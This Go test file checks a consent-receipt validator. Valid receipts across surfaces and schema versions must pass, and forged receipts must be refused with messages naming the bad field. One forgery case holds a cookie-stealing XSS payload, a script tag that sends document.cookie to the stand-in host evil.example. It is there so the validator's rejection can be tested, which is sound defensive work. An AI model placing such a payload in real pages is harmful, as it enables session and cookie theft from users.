package consentreceipt_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kaiconn/consent/consent"
	"github.com/kaiconn/consent/consentreceipt"
	"github.com/kaiconn/consent/errs"
	catalogues "github.com/kaiconn/consent/locales/catalogue"
	"github.com/kaiconn/consent/locales/localestest"
	"github.com/kaiconn/consent/notice"
	"github.com/kaiconn/consent/receipt"
)

// decided is when the decisions of these tests are taken; checkNow, when
// the server checks them, after the latest of them.
var (
	decided  = time.Date(2026, 11, 29, 4, 30, 0, 0, time.UTC)
	checkNow = decided.Add(2 * time.Hour)
)

// build maps decision d to a receipt of schema the way the outbox and the
// server do (SchemaV3), or as clients of the older formats did, and checks
// that it is well-formed: Check is only ever given receipts that Decode or
// Sign accepted.
func build(t *testing.T, cat *consent.Catalogue, d consent.Decision, previous *consent.Decision, schema string) *receipt.Receipt {
	t.Helper()
	m := consentreceipt.Meta{
		ReceiptID:    "2f1d7e2c-6a51-4f57-9a4e-1c0de5a1b2c3",
		PolicySHA256: sha,
		Purposes:     consentreceipt.Purposes(cat, d.Surface, d.Lang),
		Previous:     previous,
	}
	if schema != receipt.SchemaV1 {
		m.Notice = notice.For(cat, d.Surface, d.Lang)
		m.Schema = schema
	}
	p, err := consentreceipt.Params(d, m, receipt.NewSubject(), "")
	require.NoError(t, err)
	r := receipt.New(p)
	require.Equal(t, schema, r.Schema)
	_, err = receipt.Attest(r)
	require.NoError(t, err, "the mapped decision must make a well-formed receipt")
	return r
}

func at(r *receipt.Receipt, id string) int {
	return slices.IndexFunc(r.Purposes, func(p receipt.Purpose) bool { return p.ID == id })
}

// TestCheckValid feeds Check a receipt of every surface and decision kind,
// in every format, as consentreceipt.Params builds them (and, for /1 and
// /2, as the clients of those formats did): old formats are still read.
func TestCheckValid(t *testing.T) {
	cat := latest(t)
	agreedApp := must(consent.Agree(cat, consent.SurfaceFirstLaunch, []consent.PurposeID{"push", "location"}, consent.LangEn, decided))
	agreedWeb := must(consent.Agree(cat, consent.SurfaceWebBanner, []consent.PurposeID{"preferences"}, consent.LangZhHans, decided))
	later := decided.Add(time.Hour)
	for _, tt := range []struct {
		name     string
		decision consent.Decision
		previous *consent.Decision
	}{
		{"FirstLaunchAgreed", agreedApp, nil},
		{"FirstLaunchDeclined", must(consent.Decline(cat, consent.SurfaceFirstLaunch, consent.LangZhHans, decided)), nil},
		{"FirstLaunchAgreedAgainAfterWithdrawal", must(consent.Agree(cat, consent.SurfaceFirstLaunch, []consent.PurposeID{"push"}, consent.LangEn, later)), &agreedApp},
		{"SettingsUpdated", must(consent.Update(cat, agreedApp, consent.SurfaceSettings, map[consent.PurposeID]bool{"analytics": true, "push": false}, consent.LangEn, later)), &agreedApp},
		{"SettingsWithdrawn", must(consent.Withdraw(cat, agreedApp, consent.SurfaceSettings, consent.LangZhHans, later, "push")), &agreedApp},
		{"WebBannerAgreed", agreedWeb, nil},
		{"WebBannerDeclined", must(consent.Decline(cat, consent.SurfaceWebBanner, consent.LangEn, decided)), nil},
		{"WebBannerUpdated", must(consent.Update(cat, agreedWeb, consent.SurfaceWebBanner, map[consent.PurposeID]bool{"analytics": true}, consent.LangZhHans, later)), &agreedWeb},
		{"WebBannerWithdrawn", must(consent.Withdraw(cat, agreedWeb, consent.SurfaceWebBanner, consent.LangEn, later, "preferences")), &agreedWeb},
	} {
		for _, schema := range []string{receipt.SchemaV1, receipt.SchemaV2, receipt.SchemaV3} {
			t.Run(tt.name+"/"+strings.TrimPrefix(schema, "kaiconn-receipt/"), func(t *testing.T) {
				var head *consentreceipt.Head
				if tt.previous != nil {
					head = consentreceipt.HeadOf(build(t, cat, *tt.previous, nil, schema))
				}
				r := build(t, cat, tt.decision, tt.previous, schema)
				require.NoError(t, consentreceipt.Check(cat, r, head, checkNow))
			})
		}
	}
	t.Run("FirstLaunchAgreedConfirmsAge18/v2", func(t *testing.T) {
		for _, lang := range consent.Languages {
			d := must(consent.Agree(cat, consent.SurfaceFirstLaunch, []consent.PurposeID{"push"}, lang, decided))
			d.Confirmed = []string{"age-18"}
			r := build(t, cat, d, nil, receipt.SchemaV3)
			assert.Equal(t, []string{"age-18"}, r.Confirmed)
			require.NoError(t, consentreceipt.Check(cat, r, nil, checkNow))
			// The notice the receipt names states what was confirmed.
			shown := notice.NewShown(cat, consent.SurfaceFirstLaunch, lang)
			require.Equal(t, notice.Ref(shown), r.Notice)
			f, _ := cat.Fact(consent.SurfaceFirstLaunch, "age-18", lang)
			assert.Equal(t, []notice.ShownConfirmation{{ID: "age-18", Statement: f.Statement}}, shown.Confirmations)
		}
	})
	t.Run("FixtureCatalogue", func(t *testing.T) {
		// The check follows the catalogue it is given: the fixture's new
		// purpose belongs to its first-launch receipts.
		fixture, err := consent.LoadCatalogue(os.DirFS(filepath.Join("..", "testdata", "catalogue")), "2026-12")
		require.NoError(t, err)
		d := must(consent.Agree(fixture, consent.SurfaceFirstLaunch, []consent.PurposeID{"sensors"}, consent.LangEn, decided))
		r := build(t, fixture, d, nil, receipt.SchemaV3)
		require.NoError(t, consentreceipt.Check(fixture, r, nil, checkNow))
		assert.Error(t, consentreceipt.Check(cat, r, nil, checkNow), "not a receipt under 2022-10")
	})
}

// TestCheckForgeries feeds Check every content forgery of issue 8, and their
// kaiconn-receipt/2 equivalents: each is refused with a message naming the
// member.
func TestCheckForgeries(t *testing.T) {
	cat := latest(t)
	agreed := must(consent.Agree(cat, consent.SurfaceFirstLaunch, []consent.PurposeID{"push", "location"}, consent.LangEn, decided))
	web, _ := cat.Purpose(consent.SurfaceWebBanner, "analytics")
	preferences, _ := cat.Purpose(consent.SurfaceWebBanner, "preferences")
	fixture, err := consent.LoadCatalogue(os.DirFS(filepath.Join("..", "testdata", "catalogue")), "2026-12")
	require.NoError(t, err)
	later := decided.Add(time.Hour)
	withdrawal := must(consent.Withdraw(cat, agreed, consent.SurfaceSettings, consent.LangEn, later, "push"))
	updated := must(consent.Update(cat, agreed, consent.SurfaceSettings, map[consent.PurposeID]bool{"push": false}, consent.LangEn, later))
	agreedWeb := must(consent.Agree(cat, consent.SurfaceWebBanner, []consent.PurposeID{"analytics"}, consent.LangEn, decided))
	withdrawnWeb := must(consent.Withdraw(cat, agreedWeb, consent.SurfaceWebBanner, consent.LangEn, later, "analytics"))
	// The app's "analytics" given: not the website's, which shares the id.
	appAnalytics := must(consent.Agree(cat, consent.SurfaceFirstLaunch, []consent.PurposeID{"analytics"}, consent.LangEn, decided))
	agreedSettings := must(consent.Agree(cat, consent.SurfaceSettings, []consent.PurposeID{"push"}, consent.LangEn, decided))
	declined := must(consent.Decline(cat, consent.SurfaceFirstLaunch, consent.LangEn, decided))
	confirmed := agreed
	confirmed.Confirmed = []string{"age-18"}

	for _, tt := range []struct {
		name     string
		v2       bool              // the current compact format, kaiconn-receipt/3; v1 when false
		schema   string            // a format other than these
		decision consent.Decision  // agreed when zero
		previous *consent.Decision // what the device believed it replaced
		head     *consent.Decision // what the server's head receipt says; nil for none
		forge    func(r *receipt.Receipt)
		want     string
	}{
		// kaiconn-receipt/1: the forgeries the API countersigned.
		{name: "AnyRecipient", forge: func(r *receipt.Receipt) { r.Purposes[at(r, "push")].Recipient = "Evil Data Broker Ltd." },
			want: "receipt.purposes[4].recipient: not the catalogue's recipient"},
		{name: "AnyDataCategories", forge: func(r *receipt.Receipt) { r.Purposes[at(r, "location")].DataCategories = []string{"nothing at all"} },
			want: "receipt.purposes[3].dataCategories: not the catalogue's data categories"},
		{name: "WithdrawTextScript", forge: func(r *receipt.Receipt) {
			r.Purposes[at(r, "push")].Withdraw.Text = `<script>fetch("https://evil.example/?c="+document.cookie)</script>`
		}, want: "receipt.purposes[4].withdraw.text: not the catalogue's withdrawal text"},
		{name: "WithdrawText60KB", forge: func(r *receipt.Receipt) { r.Purposes[0].Withdraw.Text = strings.Repeat("junk ", 12<<10) },
			want: "receipt.purposes[0].withdraw.text: not the catalogue's withdrawal text"},
		{name: "DeclinedEveryPurposeGiven", forge: func(r *receipt.Receipt) {
			r.Decision = receipt.DecisionDeclined
			giveAll(r)
		}, want: "receipt.purposes[0].state: a declined decision gives no optional purpose"},
		{name: "RequiredRefused", forge: func(r *receipt.Receipt) {
			basic := &r.Purposes[at(r, "basic")]
			basic.State, basic.ExpiresAt = receipt.StateRefused, ""
		}, want: `receipt.purposes[1].state: "basic" is required processing and is always given`},
		{name: "WebCategoryInAppReceipt", forge: func(r *receipt.Receipt) {
			p := &r.Purposes[at(r, "wechat-share")]
			p.ID, p.Recipient, p.DataCategories = "preferences", notice.Recipient(preferences, consent.LangEn), notice.DataCategories(preferences, consent.LangEn)
		}, want: `receipt.purposes[5].id: "preferences" is not a purpose of surface first-launch under policy 2022-10`},
		{name: "WebTextsForAppAnalytics", forge: func(r *receipt.Receipt) {
			p := &r.Purposes[at(r, "analytics")]
			p.Recipient, p.DataCategories = notice.Recipient(web, consent.LangEn), notice.DataCategories(web, consent.LangEn)
		}, want: "receipt.purposes[0].recipient: not the catalogue's recipient"},
		{name: "RefusedWithExpiry", forge: func(r *receipt.Receipt) {
			r.Purposes[at(r, "crash-reports")].ExpiresAt = receipt.FormatTime(decided.Add(consentreceipt.Validity))
		}, want: "receipt.purposes[2].expiresAt: only a given purpose has an expiry"},
		{name: "ConsentType", forge: func(r *receipt.Receipt) { r.Purposes[at(r, "push")].ConsentType = receipt.ConsentTypeConsent },
			want: "receipt.purposes[4].consentType: the catalogue asks separate-consent"},
		{name: "RequiredWithdrawText", forge: func(r *receipt.Receipt) {
			r.Purposes[at(r, "basic")].Withdraw.Text = consentreceipt.WithdrawText(consent.LangEn)
		}, want: "receipt.purposes[1].withdraw.text"},
		{name: "WithdrawTextOtherLanguage", forge: func(r *receipt.Receipt) {
			r.Purposes[at(r, "push")].Withdraw.Text = consentreceipt.WithdrawText(consent.LangZhHans)
		}, want: "receipt.purposes[4].withdraw.text"},
		{name: "WithdrawURL", forge: func(r *receipt.Receipt) { r.Purposes[at(r, "push")].Withdraw.URL = "https://evil.example/" },
			want: "receipt.purposes[4].withdraw.url"},
		{name: "PurposeTime", forge: func(r *receipt.Receipt) { r.Purposes[at(r, "push")].Time = receipt.FormatTime(decided.Add(-time.Hour)) },
			want: "receipt.purposes[4].time: must equal issuedAt"},
		{name: "Controller", forge: func(r *receipt.Receipt) { r.Controller.Name = "Someone Else Ltd." },
			want: "receipt.controller: not this controller"},
		{name: "IssuedInTheFuture", forge: func(r *receipt.Receipt) { shiftIssued(r, 2*time.Hour+10*time.Minute) },
			want: "receipt.issuedAt: more than 5m0s in the future"},
		{name: "IssuedTooLongAgo", forge: func(r *receipt.Receipt) { shiftIssued(r, -31*24*time.Hour) },
			want: "receipt.issuedAt: older than 30 days"},
		{name: "OtherPolicyVersion", forge: func(r *receipt.Receipt) { r.Policy.Version = "2026-12" },
			want: `receipt.policy.version: "2026-12" is not the catalogue's version "2022-10"`},

		// kaiconn-receipt/2 equivalents. One notice names every text, so
		// a wrong text is a wrong notice.
		{name: "WrongNoticeHash", v2: true, forge: func(r *receipt.Receipt) { r.Notice = strings.Repeat("0", 64) },
			want: `receipt.notice: not the catalogue's notice of what first-launch shows in en under policy 2022-10`},
		{name: "NoticeOfOtherLanguage", v2: true, forge: func(r *receipt.Receipt) {
			r.Notice = notice.For(cat, consent.SurfaceFirstLaunch, consent.LangZhHans)
		}, want: "receipt.notice: not the catalogue's notice"},
		{name: "WebNoticeForAppReceipt", v2: true, forge: func(r *receipt.Receipt) {
			r.Notice = notice.For(cat, consent.SurfaceWebBanner, consent.LangEn)
		}, want: "receipt.notice: not the catalogue's notice"},
		{name: "NoticeOfOtherPolicy", v2: true, forge: func(r *receipt.Receipt) {
			r.Notice = notice.For(fixture, consent.SurfaceFirstLaunch, consent.LangEn)
		}, want: "receipt.notice: not the catalogue's notice"},
		{name: "PurposeNoticeForShownNotice", v2: true, forge: func(r *receipt.Receipt) {
			push, _ := cat.Purpose(consent.SurfaceFirstLaunch, "push")
			r.Notice = notice.PurposeRef(cat.Version(), push, consent.LangEn)
		}, want: "receipt.notice: not the catalogue's notice"},
		{name: "WithdrawalNoticeForShownNotice", v2: true, forge: func(r *receipt.Receipt) { r.Notice = notice.WithdrawalRef(consent.LangEn) },
			want: "receipt.notice: not the catalogue's notice"},
		{name: "MissingPurpose", v2: true, forge: func(r *receipt.Receipt) {
			r.Purposes = slices.Delete(r.Purposes, at(r, "location"), at(r, "location")+1)
		}, want: `receipt.purposes: purpose "location" is missing`},
		{name: "ExtraPurpose", v2: true, forge: func(r *receipt.Receipt) {
			r.Purposes = append(r.Purposes, receipt.Purpose{ID: "sensors", State: receipt.StateRefused})
		}, want: `receipt.purposes[6].id: "sensors" is not a purpose of surface first-launch`},
		{name: "PurposeTwice", v2: true, forge: func(r *receipt.Receipt) { r.Purposes = append(r.Purposes, r.Purposes[0]) },
			want: `receipt.purposes[6].id: purpose "analytics" is listed twice`},
		{name: "WrongOrder", v2: true, forge: func(r *receipt.Receipt) { r.Purposes[0], r.Purposes[1] = r.Purposes[1], r.Purposes[0] },
			want: `receipt.purposes[0].id: out of order: want "analytics" here`},
		{name: "ExpiresAtOnRefused", v2: true, forge: func(r *receipt.Receipt) {
			r.Purposes[at(r, "wechat-share")].ExpiresAt = receipt.FormatTime(decided.Add(consentreceipt.Validity))
		}, want: "receipt.purposes[5].expiresAt: only a given purpose has an expiry"},
		{name: "WrongExpiry", v2: true, forge: func(r *receipt.Receipt) {
			r.Purposes[at(r, "push")].ExpiresAt = receipt.FormatTime(decided.AddDate(5, 0, 0))
		}, want: "receipt.purposes[4].expiresAt: must be issuedAt + 365 days (2027-11-29T04:30:00.000Z)"},
		{name: "GivenWithoutExpiry", v2: true, forge: func(r *receipt.Receipt) { r.Purposes[at(r, "push")].ExpiresAt = "" },
			want: "receipt.purposes[4].expiresAt: must be set when the state is given"},
		{name: "DeclinedGivesOptional", v2: true, forge: func(r *receipt.Receipt) { r.Decision = receipt.DecisionDeclined },
			want: "receipt.purposes[3].state: a declined decision gives no optional purpose"},
		{name: "WithdrawnGivesWhatHeadDidNot", v2: true, decision: withdrawal, previous: &agreed, head: &agreed, forge: func(r *receipt.Receipt) {
			p := &r.Purposes[at(r, "crash-reports")]
			p.State, p.ExpiresAt = receipt.StateGiven, r.Purposes[at(r, "basic")].ExpiresAt
		}, want: "receipt.purposes[2].state: a withdrawal gives no purpose the subject's previous receipt did not give"},
		{name: "WithdrawalWithoutHead", v2: true, decision: withdrawal, previous: &agreed, forge: func(*receipt.Receipt) {},
			want: "receipt.purposes[3].state: a withdrawal gives no purpose the subject's previous receipt did not give"},
		{name: "WithdrawnStateWithoutHead", v2: true, decision: updated, previous: &agreed, forge: func(*receipt.Receipt) {},
			want: "receipt.purposes[4].state: withdrawn, but the subject's previous receipt on this audience did not give it"},
		{name: "WithdrawnHeadOfOtherAudience", v2: true, decision: withdrawnWeb, previous: &agreedWeb, head: &appAnalytics, forge: func(*receipt.Receipt) {},
			want: "receipt.purposes[0].state: withdrawn, but the subject's previous receipt on this audience did not give it"},
		// Required processing rests on necessity in kaiconn-receipt/3,
		// and nothing else does: a receipt cannot record it as consented
		// to, nor an optional purpose as needing no consent.
		{name: "RequiredGivenInV3", v2: true, forge: func(r *receipt.Receipt) {
			basic := &r.Purposes[at(r, "basic")]
			basic.State, basic.ExpiresAt = receipt.StateGiven, r.Purposes[at(r, "push")].ExpiresAt
		}, want: `receipt.purposes[1].state: "basic" is required processing, which rests on its necessity for the service, not on consent: its state is necessary`},
		{name: "RequiredRefusedInV3", v2: true, decision: declined, forge: func(r *receipt.Receipt) {
			r.Purposes[at(r, "basic")].State = receipt.StateRefused
		}, want: `receipt.purposes[1].state: "basic" is required processing, which rests on its necessity`},
		{name: "OptionalNecessary", v2: true, decision: declined, forge: func(r *receipt.Receipt) {
			r.Purposes[at(r, "push")].State = receipt.StateNecessary
		}, want: `receipt.purposes[4].state: "push" is optional: only required processing is necessary`},
		{name: "WebOptionalNecessary", v2: true, decision: agreedWeb, forge: func(r *receipt.Receipt) {
			p := &r.Purposes[at(r, "analytics")]
			p.State, p.ExpiresAt = receipt.StateNecessary, ""
		}, want: `receipt.purposes[0].state: "analytics" is optional`},
		{name: "RequiredRefusedInV2", schema: receipt.SchemaV2, decision: declined, forge: func(r *receipt.Receipt) {
			basic := &r.Purposes[at(r, "basic")]
			basic.State, basic.ExpiresAt = receipt.StateRefused, ""
		}, want: `receipt.purposes[1].state: "basic" is required processing and is always given`},
		// Facts: only those the catalogue declares for the surface, only on
		// an agreement, in id order, each once; never in v1.
		{name: "UndeclaredFact", v2: true, forge: func(r *receipt.Receipt) { r.Confirmed = []string{"age-16"} },
			want: `receipt.confirmed[0]: policy 2022-10 declares no fact "age-16"`},
		{name: "FactOnSettings", v2: true, decision: agreedSettings, forge: func(r *receipt.Receipt) { r.Confirmed = []string{"age-18"} },
			want: `receipt.confirmed[0]: fact "age-18" is confirmed on first-launch under policy 2022-10, not on settings`},
		{name: "FactOnWebBanner", v2: true, decision: agreedWeb, forge: func(r *receipt.Receipt) { r.Confirmed = []string{"age-18"} },
			want: `receipt.confirmed[0]: fact "age-18" is confirmed on first-launch under policy 2022-10, not on web-banner`},
		{name: "FactOnDecline", v2: true, decision: declined, forge: func(r *receipt.Receipt) { r.Confirmed = []string{"age-18"} },
			want: `receipt.confirmed: a declined decision confirms no fact`},
		{name: "FactOnWithdrawal", v2: true, decision: withdrawal, previous: &agreed, head: &agreed, forge: func(r *receipt.Receipt) { r.Confirmed = []string{"age-18"} },
			want: `receipt.confirmed: a withdrawn decision confirms no fact`},
		{name: "FactTwice", v2: true, forge: func(r *receipt.Receipt) { r.Confirmed = []string{"age-18", "age-18"} },
			want: `receipt.confirmed[1]: out of order: facts are listed in id order, each once`},
		{name: "FactOfAnotherPolicy", v2: true, decision: confirmed, forge: func(r *receipt.Receipt) { r.Confirmed = []string{"age-18", "sensors-ok"} },
			want: `receipt.confirmed[1]: policy 2022-10 declares no fact "sensors-ok"`},
		{name: "FactInV1", forge: func(r *receipt.Receipt) { r.Confirmed = []string{"age-18"} },
			want: `receipt.confirmed: only a kaiconn-receipt/2 receipt records confirmed facts`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d := tt.decision
			if d.Kind == "" {
				d = agreed
			}
			schema := receipt.SchemaV1
			if tt.v2 {
				schema = receipt.SchemaV3
			}
			if tt.schema != "" {
				schema = tt.schema
			}
			r := build(t, cat, d, tt.previous, schema)
			var head *consentreceipt.Head
			if tt.head != nil {
				head = consentreceipt.HeadOf(build(t, cat, *tt.head, nil, schema))
			}
			tt.forge(r)
			err := consentreceipt.Check(cat, r, head, checkNow)
			require.Error(t, err)
			assert.Equal(t, errs.Unprocessable, errs.Code(err))
			assert.Contains(t, errs.Message(err), tt.want)
		})
	}
}

func TestHeadOf(t *testing.T) {
	cat := latest(t)
	d := must(consent.Agree(cat, consent.SurfaceFirstLaunch, []consent.PurposeID{"push"}, consent.LangEn, decided))
	h := consentreceipt.HeadOf(build(t, cat, d, nil, receipt.SchemaV3))
	assert.Equal(t, receipt.SurfaceFirstLaunch, h.Surface)
	assert.Equal(t, receipt.StateGiven, h.States["push"])
	assert.Equal(t, receipt.StateRefused, h.States["location"])
	assert.Len(t, h.States, len(d.Choices))
}

// giveAll gives every purpose of r, with the expiry a given purpose has.
func giveAll(r *receipt.Receipt) {
	expires := receipt.FormatTime(r.IssuedTime().Add(consentreceipt.Validity))
	for i := range r.Purposes {
		r.Purposes[i].State, r.Purposes[i].ExpiresAt = receipt.StateGiven, expires
	}
}

// shiftIssued moves issuedAt and every time derived from it by d, so that
// only the time window is wrong.
func shiftIssued(r *receipt.Receipt, d time.Duration) {
	issued := r.IssuedTime().Add(d)
	r.IssuedAt = receipt.FormatTime(issued)
	for i := range r.Purposes {
		r.Purposes[i].Time = r.IssuedAt
		if r.Purposes[i].ExpiresAt != "" {
			r.Purposes[i].ExpiresAt = receipt.FormatTime(issued.Add(consentreceipt.Validity))
		}
	}
}

func latest(t *testing.T) *consent.Catalogue {
	t.Helper()
	cat, err := consent.LoadCatalogue(catalogues.FS, localestest.Base)
	require.NoError(t, err)
	return cat
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}
